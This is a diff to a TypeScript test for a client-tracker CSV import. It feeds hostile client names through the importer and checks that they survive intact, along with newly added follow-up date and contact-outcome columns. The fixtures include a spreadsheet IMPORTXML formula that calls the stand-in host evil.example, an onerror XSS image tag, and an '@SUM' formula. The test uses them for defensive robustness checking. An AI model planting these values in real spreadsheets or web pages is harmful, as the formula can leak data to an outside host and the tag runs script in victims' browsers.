@@ -159,16 +159,17 @@ describe('client-tracker import', () => {
     const names = ['=IMPORTXML("http://evil.example/x","//a")', '<img src=x onerror=alert(1)>', '@SUM(A1:A2)'];
     const header = ['客户名称', '联系人', '职务', '地址', '需求', '竞争对手', '客户备注', '跟进内容', '疑问与异议'];
     const perRow = header.length - 1;
+    // Every history row needs a date and an outcome to be logged: the list says each was a reached call.
+    header.push('最近跟进', '联系情况');
     const rows: string[][] = [];
     for (let i = 0; i * perRow < kept.length; i++) {
       const texts = kept.slice(i * perRow, (i + 1) * perRow);
       while (texts.length < perRow) texts.push('ok');
       const name = names[i] ?? `Hostile ${String(i).padStart(3, '0')} ${String.fromCharCode(97 + (i % 26))}`;
-      rows.push([name, ...texts.slice(0, 6), ...texts.slice(6)]);
+      rows.push([name, ...texts, '2026/2/20', '已联系上']);
     }
     const csv = [header, ...rows].map((r) => r.map(q).join(',')).join('\r\n');
     fs.writeFileSync(path.join(dir, 'hostile.csv'), '\uFEFF' + csv);
-    // Every history row needs an outcome to be logged: the list says each was a reached call.
     const done = run(dir, '--from', 'hostile.csv', '--map', '疑问与异议=objections');
     expect(done.code).toBe(0);
     expect(done.stdout).not.toContain('Rows with problems');
@@ -188,11 +189,8 @@ describe('client-tracker import', () => {
     const texts = new Set(stored.filter((v): v is string => typeof v === 'string'));
     const storedNames = records(wb, 'Clients').map((c) => c.Name);
     for (const n of names) expect(storedNames).toContain(n);
-    const missing = kept.filter((t, i) => {
-      const inClient = i % perRow < 6;
-      return inClient && !texts.has(t);
-    });
-    expect(missing).toEqual([]);
+    expect(kept.filter((t) => !texts.has(t))).toEqual([]);
+    expect(records(wb, 'Contacts').filter((c) => c.Outcome === 'Reached')).toHaveLength(rows.length);
   }, 300_000);
 
   test('a file that cannot be read gets one sentence, a non-zero exit, and the workbook stays byte-equal', () => {
